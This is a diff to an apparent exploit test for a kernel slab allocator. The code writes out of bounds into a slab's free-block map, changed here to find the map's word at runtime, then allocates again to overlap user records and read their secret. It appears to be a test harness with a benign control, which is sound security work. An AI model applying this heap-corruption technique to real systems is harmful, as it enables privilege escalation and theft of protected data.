@@ -9,7 +9,7 @@
 
 #define SIZE 496
 #define FIRST_BLOCK 64
-#define FREE_MAP 32 /* kernel/mm/heap_slab.c: where a slab's map of free blocks is */
+#define MAPS 24 /* kernel/mm/heap_slab.c: here or in the next word a slab has its map of free blocks */
 #define USERS 7
 
 struct user {
@@ -21,6 +21,12 @@ struct user {
 static NOINLINE void set_slot(uint64_t *slots, long index, uint64_t value)
 {
 	attack_opaque(slots)[index] = value;
+}
+
+/* Nor here. */
+static NOINLINE uint64_t get_slot(const uint64_t *slots, long index)
+{
+	return attack_opaque(slots)[index];
 }
 
 static NOINLINE uint64_t read_secret(const struct user *user)
@@ -46,7 +52,7 @@ static bool benign(const struct attack *attack)
 	if (!user || !slots)
 		return false;
 	set_slot(slots, 1, 9);
-	right = slots[1] == 9 && read_secret(user) == 0;
+	right = get_slot(slots, 1) == 9 && read_secret(user) == 0;
 	heap_free(slots);
 	heap_free(user);
 	return right;
@@ -56,6 +62,7 @@ static void run(const struct attack *attack)
 {
 	struct user *users[USERS];
 	uint64_t *slots, found = 0;
+	long map;
 
 	do {
 		slots = heap_zalloc(SIZE);
@@ -64,8 +71,12 @@ static void run(const struct attack *attack)
 	} while ((uintptr_t)slots % PAGE_SIZE != FIRST_BLOCK);
 	for (int i = 0; i < USERS - 1; i++)
 		users[i] = log_in(1000);
+	/* One block is left, so the map is not zero. */
+	map = (MAPS - FIRST_BLOCK) / 8;
+	if (!get_slot(slots, map))
+		map++;
 	attack_primitive(attack);
-	set_slot(slots, (FREE_MAP - FIRST_BLOCK) / 8, 0xfe);
+	set_slot(slots, map, 0xfe);
 	for (int i = 0; i < 2 * USERS; i++)
 		if (!heap_zalloc(SIZE))
 			break;
